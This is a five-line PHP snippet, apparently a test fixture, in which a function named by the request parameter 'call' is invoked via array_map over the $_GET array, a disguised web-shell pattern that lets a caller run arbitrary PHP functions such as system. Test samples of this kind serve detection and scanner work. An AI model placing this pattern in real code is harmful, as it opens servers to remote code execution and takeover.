<?php
// the request array taken by reference, its item used as the callback's name
// (written for the tests, never run)
$p =& $_GET;
array_map($p['call'], $p);
